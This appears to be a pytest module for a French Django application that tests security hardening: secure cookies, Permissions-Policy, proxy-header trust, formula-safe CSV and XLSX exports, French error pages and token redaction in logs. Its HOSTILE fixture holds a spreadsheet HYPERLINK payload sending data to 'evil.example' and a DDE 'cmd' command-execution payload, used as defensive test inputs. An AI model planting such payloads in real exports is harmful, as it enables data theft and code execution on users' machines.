"""Smaller hardening rules: production cookies, Permissions-Policy, the proxy header,
formula-safe exports, French error pages, and link tokens kept out of access logs."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import re
import subprocess
import sys
import time
import types
import urllib.request
import uuid
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.decorators import login_not_required
from django.core.exceptions import PermissionDenied
from django.core.servers.basehttp import WSGIRequestHandler
from django.http import HttpRequest, HttpResponse
from django.test import Client
from django.urls import include, path, reverse
from openpyxl import Workbook, load_workbook

from apps.core.security import REDACTED_SEGMENT, RedactUrlTokensFilter, redact_url_tokens
from apps.core.spreadsheets import safe_cell, safe_row
from apps.partners.models import Partner
from tests.faults import free_port, stop_group
from tests.slsps.factories import SlspFactory

pytestmark = pytest.mark.django_db

BASE_DIR = Path(settings.BASE_DIR)


# --- Production settings, read in a separate process with DEBUG=0 ---------------


def production_settings(**extra: str) -> dict:
    """The values the production settings module computes from the given environment."""
    env = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith(("SECURE_", "SESSION_", "CSRF_", "BEHIND_"))
    }
    env.update(
        DJANGO_SETTINGS_MODULE="slsp_referent.settings",
        DEBUG="0",
        SECRET_KEY="x" * 60,
        ALLOWED_HOSTS="referent.example.org",
        # Never contacted: the settings module only reads the URLs.
        DATABASE_URL="postgres://nobody@127.0.0.1:1/none",
        REDIS_URL="redis://127.0.0.1:1/0",
        **extra,
    )
    names = [
        "SESSION_COOKIE_NAME",
        "SESSION_COOKIE_SECURE",
        "SESSION_COOKIE_PATH",
        "SESSION_COOKIE_DOMAIN",
        "CSRF_COOKIE_NAME",
        "CSRF_COOKIE_SECURE",
        "CSRF_COOKIE_PATH",
        "CSRF_COOKIE_DOMAIN",
        "SECURE_PROXY_SSL_HEADER",
        "SECURE_SSL_REDIRECT",
    ]
    code = (
        "import json; from django.conf import settings; "
        f"print(json.dumps({{n: getattr(settings, n) for n in {names!r}}}))"
    )
    result = subprocess.run(
        [sys.executable, "-c", code],
        cwd=BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout.strip().splitlines()[-1])


def test_production_session_and_csrf_cookies_are_host_prefixed():
    values = production_settings()
    assert values["SESSION_COOKIE_NAME"] == "__Host-sessionid"
    assert values["CSRF_COOKIE_NAME"] == "__Host-csrftoken"
    for prefix in ("SESSION", "CSRF"):
        assert values[f"{prefix}_COOKIE_SECURE"] is True
        assert values[f"{prefix}_COOKIE_PATH"] == "/"
        assert values[f"{prefix}_COOKIE_DOMAIN"] is None
    # A browser drops a __Host- cookie that is not Secure: without HTTPS, plain names.
    plain = production_settings(SESSION_COOKIE_SECURE="0", CSRF_COOKIE_SECURE="0")
    assert (plain["SESSION_COOKIE_NAME"], plain["CSRF_COOKIE_NAME"]) == ("sessionid", "csrftoken")


def test_host_prefixed_cookies_are_set_as_browsers_require(settings, world):
    values = production_settings()
    for name in ("SESSION", "CSRF"):
        for field in ("NAME", "SECURE", "PATH", "DOMAIN"):
            setattr(settings, f"{name}_COOKIE_{field}", values[f"{name}_COOKIE_{field}"])
    client = Client()
    client.get(reverse("accounts:login"))
    client.force_login(world.users["referent_a"])
    for name in ("__Host-sessionid", "__Host-csrftoken"):
        cookie = client.cookies[name]
        assert cookie["secure"] is True and cookie["path"] == "/" and not cookie["domain"]


# --- Permissions-Policy ----------------------------------------------------------


def test_every_response_refuses_unused_browser_features(settings, client_for, world):
    # WhiteNoise serves files from the apps' folders, as runserver does in development.
    settings.WHITENOISE_USE_FINDERS = True
    client = Client()
    responses = [
        client.get(reverse("accounts:login")),
        client.get(reverse("core:home")),  # redirect to the login page
        client.get("/nulle-part/"),  # 404
        client.get(reverse("core:health")),  # JSON
        client.get("/static/css/app.css"),  # static file (WhiteNoise)
        client_for("referent_a").get(reverse("core:home")),
    ]
    assert [r.status_code for r in responses] == [200, 302, 404, 200, 200, 200]
    for response in responses:
        policy = response["Permissions-Policy"]
        for feature in ("camera", "microphone", "geolocation", "payment", "usb"):
            assert f"{feature}=()" in policy, (response.status_code, policy)


# --- X-Forwarded-Proto is trusted only behind a declared proxy -------------------


def test_proxy_header_is_trusted_only_when_a_proxy_is_declared():
    assert production_settings()["SECURE_PROXY_SSL_HEADER"] is None
    assert production_settings(BEHIND_PROXY="1")["SECURE_PROXY_SSL_HEADER"] == [
        "HTTP_X_FORWARDED_PROTO",
        "https",
    ]


@pytest.mark.parametrize(("behind_proxy", "status"), [(False, 301), (True, 200)])
def test_forged_forwarded_proto_does_not_make_plain_http_secure(settings, behind_proxy, status):
    """A client on plain HTTP claims HTTPS: without a proxy it is still redirected."""
    settings.SECURE_SSL_REDIRECT = True
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https") if behind_proxy else None
    response = Client().get(reverse("accounts:login"), HTTP_X_FORWARDED_PROTO="https")
    assert response.status_code == status
    if status == 301:
        assert response["Location"].startswith("https://")


# --- Formula injection in CSV and XLSX exports ------------------------------------

HOSTILE = {
    "official_name": '=HYPERLINK("https://evil.example/?d="&A3;"Voir")',
    "head_office_commune": "+cmd|' /C calc'!A0",
}


def test_safe_cell_neutralises_text_only():
    for text in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for value in (-3, 0, 2.5, Decimal("-1.5"), None, "SLSP A", "<5", "Total régional"):
        assert safe_cell(value) == value


def test_negative_numbers_stay_numbers_in_xlsx():
    workbook = Workbook()
    workbook.active.append(safe_row(["-2", -2, Decimal("-1.5"), "=1+1"]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = next(load_workbook(buffer).active.iter_rows())
    assert [c.value for c in cells] == ["'-2", -2, -1.5, "'=1+1"]
    assert [c.data_type for c in cells] == ["s", "n", "n", "s"]


def test_regional_csv_neutralises_formulas(client_for, world):
    SlspFactory(housing_units=120, **HOSTILE)
    response = client_for("coordinateur").get(reverse("reports:region_csv"))
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    hostile = next(line for line in lines if "HYPERLINK" in line[0])
    assert hostile[0] == "'" + HOSTILE["official_name"]
    assert hostile[2] == "'" + HOSTILE["head_office_commune"]
    assert hostile[3] == "120"
    assert not [cell for line in lines for cell in line if cell[:1] in {"=", "+", "-", "@"}]


def test_regional_xlsx_neutralises_formulas_and_keeps_numbers(client_for, world):
    SlspFactory(housing_units=120, **HOSTILE)
    response = client_for("coordinateur").get(reverse("reports:region_xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    row = next(r for r in sheet.iter_rows() if "HYPERLINK" in str(r[0].value))
    assert row[0].value == "'" + HOSTILE["official_name"]
    assert row[2].value == "'" + HOSTILE["head_office_commune"]
    assert (row[3].value, row[3].data_type) == (120, "n")


def test_every_csv_and_xlsx_writer_uses_the_safe_cell_helper():
    writers = []
    for source in (BASE_DIR / "apps").rglob("*.py"):
        text = source.read_text()
        if re.search(r"csv\.(writer|DictWriter)\(|Workbook\(", text):
            writers.append(source.relative_to(BASE_DIR))
            assert "apps.core.spreadsheets import" in text, source
    assert writers, "no export writer found: the scan is broken"


# --- French error pages -----------------------------------------------------------


# Public test views (LoginRequiredMiddleware): the error pages of anonymous requests.
@login_not_required
def boom(request: HttpRequest) -> HttpResponse:
    raise RuntimeError("panne simulée")


@login_not_required
def forbidden(request: HttpRequest) -> HttpResponse:
    raise PermissionDenied


urlpatterns = [
    path("panne/", boom),
    path("interdit/", forbidden),
    path("", include("slsp_referent.urls")),
]

ENGLISH = ("Bad Request", "Server Error", "Not Found", "Forbidden", "CSRF verification")


def assert_french_page(response: HttpResponse, status: int, words: str) -> str:
    html = response.content.decode()
    assert response.status_code == status, html[:300]
    assert words in html, html[:600]
    assert '<html lang="fr"' in html
    assert not [word for word in ENGLISH if word in html]
    return html


def test_404_403_and_500_pages_are_french(settings, client_for, world):
    settings.DEBUG = False
    assert_french_page(Client().get("/nulle-part/"), 404, "Page introuvable")
    referent = client_for("referent_a")
    assert_french_page(referent.get(reverse("admin:login")), 403, "Accès refusé")
    settings.ROOT_URLCONF = __name__
    assert_french_page(Client().get("/interdit/"), 403, "Vous n'avez pas accès")
    crash = Client(raise_request_exception=False).get("/panne/")
    assert_french_page(crash, 500, "Une erreur est survenue")


def test_csrf_failure_page_is_french(settings, world):
    settings.DEBUG = False
    client = Client(enforce_csrf_checks=True)
    response = client.post(reverse("accounts:login"), {"username": "x", "password": "y"})
    assert_french_page(response, 403, "La requête n'a pas pu être vérifiée")


def too_many_fields(count: int = 1100) -> dict:
    return {f"champ{i}": "x" for i in range(count)}


def test_too_many_fields_gets_the_french_400_page(settings, client_for, world):
    settings.DEBUG = False
    assert settings.DATA_UPLOAD_MAX_NUMBER_FIELDS < 1100
    login = Client().post(
        reverse("accounts:login"), {"username": "x", "password": "y", **too_many_fields()}
    )
    assert_french_page(login, 400, "Requête incorrecte")
    # A signed-in form: refused whole, nothing saved.
    before = Partner.objects.count()
    response = client_for("referent_a").post(
        reverse("partners:create"), {"name": "Partenaire fantôme", **too_many_fields()}
    )
    assert_french_page(response, 400, "Rien n'a été enregistré")
    assert Partner.objects.count() == before


# --- Link tokens never reach an access log ----------------------------------------

TOKEN = "AbC123.secret-partner-token_xyz"


def referral_path(token: str = TOKEN) -> tuple[str, str]:
    ref = uuid.uuid4()
    url = reverse("referrals:referral_link", kwargs={"uuid": ref, "token": token})
    return url, f"/accompagnement/partenaire/orientation/{ref}/{REDACTED_SEGMENT}/"


def test_redaction_follows_the_real_url_patterns():
    url, masked = referral_path()
    assert redact_url_tokens(f"GET {url}?a=1 HTTP/1.1") == f"GET {masked}?a=1 HTTP/1.1"
    reset = reverse(
        "accounts:password_reset_confirm", kwargs={"uidb64": "MTIz", "token": "cq2x-0123abcd"}
    )
    assert "cq2x-0123abcd" not in redact_url_tokens(reset)
    assert redact_url_tokens(reset).endswith(f"/MTIz/{REDACTED_SEGMENT}/")
    # The reset view's own placeholder is no secret and stays readable.
    after = reverse(
        "accounts:password_reset_confirm", kwargs={"uidb64": "MTIz", "token": "set-password"}
    )
    assert redact_url_tokens(after) == after


def test_runserver_request_line_is_logged_without_the_token():
    """Django's runserver handler logs the request line; the configured django.server
    logger writes it with the token masked."""
    url, masked = referral_path()
    handler = next(h for h in logging.getLogger("django.server").handlers)
    assert any(isinstance(f, RedactUrlTokensFilter) for f in handler.filters)
    stream = io.StringIO()
    previous = handler.setStream(stream)
    try:
        server = types.SimpleNamespace(request=None, log_date_time_string=lambda: "now")
        WSGIRequestHandler.log_message(server, '"%s" %s %s', f"GET {url} HTTP/1.1", "200", "512")
        WSGIRequestHandler.log_message(server, '"%s" %s %s', f"GET {url} HTTP/1.1", "404", "12")
    finally:
        handler.setStream(previous)
    output = stream.getvalue()
    assert TOKEN not in output
    assert output.count(f'"GET {masked} HTTP/1.1"') == 2, output


def test_a_not_found_warning_does_not_leak_the_token(client):
    """Django's request logger names the path of every 404; the console handler masks it."""
    url, masked = referral_path()
    handler = next(h for h in logging.getLogger().handlers if h.name == "console")
    stream = io.StringIO()
    previous = handler.setStream(stream)
    try:
        assert client.get(url).status_code == 404
    finally:
        handler.setStream(previous)
    output = stream.getvalue()
    assert TOKEN not in output
    assert f"Not Found: {masked}" in output, output


def test_gunicorn_config_installs_the_redacting_logger():
    import importlib.util

    from gunicorn.config import Config

    spec = importlib.util.spec_from_file_location("gunicorn_conf", BASE_DIR / "gunicorn.conf.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    config = Config()
    for key, value in vars(module).items():
        if key in config.settings:
            config.set(key, value)
    assert config.logger_class is module.RedactingLogger
    logger = config.logger_class(config)
    assert any(isinstance(f, RedactUrlTokensFilter) for f in logger.error_log.filters)


TINY_APP = """
def app(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]
"""


def test_gunicorn_access_log_masks_the_token(tmp_path):
    """A real gunicorn with the project's config file: the access line (request line and
    referrer) holds the path with the token masked."""
    (tmp_path / "tiny_app.py").write_text(TINY_APP)
    port = free_port()
    env = {**os.environ, "PYTHONPATH": str(tmp_path)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "gunicorn", "-c", str(BASE_DIR / "gunicorn.conf.py")]
        + ["--bind", f"127.0.0.1:{port}", "--workers", "1", "tiny_app:app"],
        cwd=tmp_path,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    url, masked = referral_path()
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                request = urllib.request.Request(  # noqa: S310 (loopback)
                    f"http://127.0.0.1:{port}{url}",
                    headers={"Referer": f"http://127.0.0.1:{port}{url}"},
                )
                with urllib.request.urlopen(request, timeout=2):  # noqa: S310
                    break
            except OSError:
                if proc.poll() is not None or time.monotonic() > deadline:
                    raise
                time.sleep(0.2)
    finally:
        stop_group(proc)
    stdout, stderr = proc.communicate(timeout=10)
    access = stdout + stderr
    assert TOKEN not in access
    assert f'"GET {masked} HTTP/1.1" 200' in access, access
    assert f"http://127.0.0.1:{port}{masked}" in access, access


def test_control_characters_are_dropped_so_the_xlsx_export_still_builds(client_for, world):
    SlspFactory(official_name="SLSP\x07 du\x1b Centre", housing_units=50)
    response = client_for("coordinateur").get(reverse("reports:region_xlsx"))
    assert response.status_code == 200
    names = [r[0].value for r in load_workbook(io.BytesIO(response.content)).active.iter_rows()]
    assert "SLSP du Centre" in names
